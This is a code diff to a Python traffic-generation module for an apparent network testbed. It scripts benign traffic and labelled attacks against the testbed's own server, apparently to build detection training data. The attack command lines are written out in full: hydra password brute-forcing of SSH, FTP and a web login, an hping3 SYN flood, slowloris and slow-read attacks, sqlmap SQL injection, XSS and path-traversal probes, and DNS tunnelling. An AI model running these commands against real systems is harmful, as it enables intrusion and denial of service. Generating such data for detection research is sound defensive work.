@@ -10,17 +10,14 @@ from __future__ import annotations
 
 import base64
 import random
-from collections.abc import Callable
-from dataclasses import dataclass
+from collections.abc import Callable, Mapping
+from dataclasses import dataclass, field
 
-from trafficlm.training.testbed.servers import LOGIN_PASSWORD, LOGIN_USER
-from trafficlm.training.testbed.topology import address
+from trafficlm.training.testbed.server_programs import LOGIN_PASSWORD, LOGIN_USER
 from trafficlm.training.testbed.webapp import PASSWORD as WEB_PASSWORD
 from trafficlm.training.testbed.webapp import USER as WEB_USER
 
 BENIGN = "BENIGN"
-SERVER = address("server")
-URL = f"http://{SERVER}"
 USER_AGENTS = (
     "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36",
@@ -32,11 +29,21 @@ Commands = list[list[str]]
 
 @dataclass(frozen=True)
 class Budget:
-    """What a scenario builder gets: its random generator and how long it may run."""
+    """What a scenario builder gets: its random generator, how long it may run, what to hit."""
 
     rng: random.Random
     seconds: float
     wordlist: str  # a file of candidate passwords (the real one among them)
+    targets: Mapping[str, str]  # service -> the address that serves it
+    pages: tuple[str, ...]  # the web site's pages
+    spoofed: tuple[str, ...] = ()  # source addresses a flood may forge (the spoofed range's)
+    assets: Mapping[str, tuple[str, ...]] = field(default_factory=dict)  # page -> its assets
+
+    def at(self, service: str = "http") -> str:
+        return self.targets[service]
+
+    def url(self, scheme: str = "http") -> str:
+        return f"{scheme}://{self.at('http')}"
 
 
 @dataclass(frozen=True)
@@ -66,11 +73,12 @@ def web_browsing(b: Budget) -> Commands:
     commands = []
     for _ in range(max(4, int(b.seconds * 1.5))):
         scheme = b.rng.choice(("http", "https"))
-        page = b.rng.choice([f"/docs/page{b.rng.randrange(20)}.html", "/",
+        page = b.rng.choice([b.rng.choice(b.pages), "/",
                              f"/search?q={b.rng.choice(('router', 'tap', 'sensor', 'fire'))}",
-                             f"/docs/page{b.rng.randrange(20)}.html?ref=home&lang=en"])
-        commands += [_curl(b, f"{scheme}://{SERVER}{page}"), _think(b)]
-    commands.append(_curl(b, f"{URL}/login", "-d", f"username={WEB_USER}&password={WEB_PASSWORD}"))
+                             f"{b.rng.choice(b.pages)}?ref=home&lang=en"])
+        commands += [_curl(b, f"{b.url(scheme)}{page}"), _think(b)]
+    commands.append(_curl(b, f"{b.url()}/login", "-d",
+                          f"username={WEB_USER}&password={WEB_PASSWORD}"))
     return commands
 
 
@@ -80,7 +88,8 @@ def dns_lookups(b: Budget) -> Commands:
     commands = []
     for _ in range(max(4, int(b.seconds))):
         name, kind = b.rng.choice(names)
-        commands += [["dig", "+time=2", "+tries=1", f"@{SERVER}", name, kind], _think(b, 0.2, 2)]
+        commands += [["dig", "+time=2", "+tries=1", f"@{b.at('dns')}", name, kind],
+                     _think(b, 0.2, 2)]
     return commands
 
 
@@ -89,7 +98,7 @@ def ssh_sessions(b: Budget) -> Commands:
     return [cmd for _ in range(max(2, int(b.seconds / 4))) for cmd in (
         ["sshpass", "-p", LOGIN_PASSWORD, "ssh", "-o", "StrictHostKeyChecking=no",
          "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5",
-         f"{LOGIN_USER}@{SERVER}", "; ".join(b.rng.sample(work, 3))], _think(b, 0.5, 2))]
+         f"{LOGIN_USER}@{b.at('ssh')}", "; ".join(b.rng.sample(work, 3))], _think(b, 0.5, 2))]
 
 
 def ftp_transfers(b: Budget) -> Commands:
@@ -98,60 +107,60 @@ def ftp_transfers(b: Budget) -> Commands:
     for i in range(max(2, int(b.seconds / 3))):
         if b.rng.random() < 0.3:
             commands.append(["curl", "-s", "--max-time", "10", "-T", "/etc/services",
-                             f"ftp://{login}@{SERVER}/upload{i}.txt"])
+                             f"ftp://{login}@{b.at('ftp')}/upload{i}.txt"])
         else:
             commands.append(["curl", "-s", "--max-time", "10", "-o", "/dev/null",
-                             f"ftp://{login}@{SERVER}/report{b.rng.randrange(5)}.txt"])
+                             f"ftp://{login}@{b.at('ftp')}/report{b.rng.randrange(5)}.txt"])
         commands.append(_think(b, 0.3, 2))
     return commands
 
 
 def bulk_transfer(b: Budget) -> Commands:
-    return [["curl", "-s", "-o", "/dev/null", "--limit-rate", "4M", f"{URL}/download.bin"],
-            _think(b), ["iperf3", "-c", SERVER, "-n", "4M", "-b", "20M"]]
+    return [["curl", "-s", "-o", "/dev/null", "--limit-rate", "4M", f"{b.url()}/download.bin"],
+            _think(b), ["iperf3", "-c", b.at("iperf"), "-n", "4M", "-b", "20M"]]
 
 
 def mqtt_telemetry(b: Budget) -> Commands:
     commands = []
     for _ in range(max(3, int(b.seconds))):
         topic = f"plant/{b.rng.choice(('boiler', 'pump', 'valve'))}/temp"
-        commands += [["mosquitto_pub", "-h", SERVER, "-t", topic, "-m",
+        commands += [["mosquitto_pub", "-h", b.at("mqtt"), "-t", topic, "-m",
                       f"{b.rng.uniform(20, 90):.1f}"], _think(b, 0.3, 1.5)]
     return commands
 
 
 def nmap(*options: str) -> Callable[[Budget], Commands]:
-    return lambda b: [["nmap", "-n", "-Pn", "-r", *options, SERVER]]
+    return lambda b: [["nmap", "-n", "-Pn", "-r", *options, b.at()]]
 
 
-def hydra(target: list[str], *options: str) -> Callable[[Budget], Commands]:
+def hydra(target: Callable[[Budget], list[str]], *options: str) -> Callable[[Budget], Commands]:
     """hydra takes its options first, then the target (and a module's own argument)."""
-    return lambda b: [["hydra", "-I", "-t", "4", *options, "-P", b.wordlist, *target]]
+    return lambda b: [["hydra", "-I", "-t", "4", *options, "-P", b.wordlist, *target(b)]]
 
 
 def syn_flood(b: Budget) -> Commands:
     count = int(min(b.seconds, 10) * 1000)  # 1,000 packets/s, bounded by count
-    return [["hping3", "-S", "-p", "80", "-s", "20000", "-i", "u1000", "-c", str(count), SERVER]]
+    return [["hping3", "-S", "-p", "80", "-s", "20000", "-i", "u1000", "-c", str(count), b.at()]]
 
 
 def slowloris(b: Budget) -> Commands:
     return [["slowhttptest", "-H", "-c", "300", "-i", "10", "-r", "100", "-t", "GET", "-x", "24",
-             "-p", "3", "-l", str(int(b.seconds)), "-u", f"{URL}/"]]
+             "-p", "3", "-l", str(int(b.seconds)), "-u", f"{b.url()}/"]]
 
 
 def slow_read(b: Budget) -> Commands:
     return [["slowhttptest", "-X", "-c", "300", "-r", "100", "-w", "512", "-y", "1024", "-n", "5",
              "-z", "32", "-k", "3", "-p", "3", "-l", str(int(b.seconds)),
-             "-u", f"{URL}/download.bin"]]
+             "-u", f"{b.url()}/download.bin"]]
 
 
 def http_flood(b: Budget) -> Commands:
     return [["ab", "-q", "-n", str(int(b.seconds * 200)), "-c", "50", "-s", "5",
-             f"{URL}/docs/page{b.rng.randrange(3)}.html"]]
+             f"{b.url()}/docs/page{b.rng.randrange(3)}.html"]]
 
 
 def sql_injection(b: Budget) -> Commands:
-    return [["sqlmap", "-u", f"{URL}/search?q=router", "--batch", "--flush-session",
+    return [["sqlmap", "-u", f"{b.url()}/search?q=router", "--batch", "--flush-session",
              "--technique=BEU", "--level=2", "--threads=2", "--timeout=5",
              "--output-dir=/tmp/trafficlm-testbed-sqlmap", "--disable-coloring", "--banner",
              "--tables"]]
@@ -169,7 +178,7 @@ def xss(b: Budget) -> Commands:
     commands = []
     for _ in range(max(10, int(b.seconds * 2))):
         payload = b.rng.choice(XSS)
-        commands += [_curl(b, f"{URL}/search", "-G", "--data-urlencode", f"q={payload}"),
+        commands += [_curl(b, f"{b.url()}/search", "-G", "--data-urlencode", f"q={payload}"),
                      _think(b, 0.05, 0.6)]
     return commands
 
@@ -178,7 +187,7 @@ def path_traversal(b: Budget) -> Commands:
     commands = []
     for _ in range(max(10, int(b.seconds * 2))):
         target = b.rng.choice(TRAVERSAL)
-        commands += [_curl(b, f"{URL}/docs/{target}", "--path-as-is"), _think(b, 0.05, 0.6)]
+        commands += [_curl(b, f"{b.url()}/docs/{target}", "--path-as-is"), _think(b, 0.05, 0.6)]
     return commands
 
 
@@ -187,7 +196,7 @@ def dns_tunnel(b: Budget) -> Commands:
     for i in range(max(20, int(b.seconds * 8))):
         chunk = base64.b32encode(b.rng.randbytes(30)).decode().rstrip("=").lower()
         name = f"{chunk[:40]}.{chunk[40:]}{i}.t.testbed.lan"
-        commands += [["dig", "+time=1", "+tries=1", f"@{SERVER}", name,
+        commands += [["dig", "+time=1", "+tries=1", f"@{b.at('dns')}", name,
                       b.rng.choice(("TXT", "A", "CNAME"))], ["sleep", "0.1"]]
     return commands
 
@@ -216,13 +225,14 @@ SCENARIOS = {s.name: s for s in (
     Scenario("ssh_bruteforce", "SSH-Patator", "attacker", ("hydra",),
              # -w 1: sshd drops the connection after each failure (MaxAuthTries 1) and hydra
              # would otherwise wait 32 s for a reply that never comes before reconnecting
-             hydra([f"ssh://{SERVER}"], "-w", "1", "-l", LOGIN_USER),
+             hydra(lambda b: [f"ssh://{b.at('ssh')}"], "-w", "1", "-l", LOGIN_USER),
              "hydra password guessing on SSH, one guess per connection"),
     Scenario("ftp_bruteforce", "FTP-Patator", "attacker", ("hydra",),
-             hydra([f"ftp://{SERVER}"], "-l", LOGIN_USER), "hydra password guessing on FTP"),
+             hydra(lambda b: [f"ftp://{b.at('ftp')}"], "-l", LOGIN_USER),
+             "hydra password guessing on FTP"),
     Scenario("web_bruteforce", "Web Attack \u2013 Brute Force", "attacker", ("hydra",),
-             hydra([SERVER, "http-post-form",
-                    "/login:username=^USER^&password=^PASS^:Login failed"], "-l", WEB_USER),
+             hydra(lambda b: [b.at(), "http-post-form",
+                          "/login:username=^USER^&password=^PASS^:Login failed"], "-l", WEB_USER),
              "hydra against the HTTP login form"),
     Scenario("syn_flood", "DoS Syn Flood", "attacker", ("hping3",), syn_flood,
              "hping3 SYN flood on port 80 at 1,000 packets/s"),
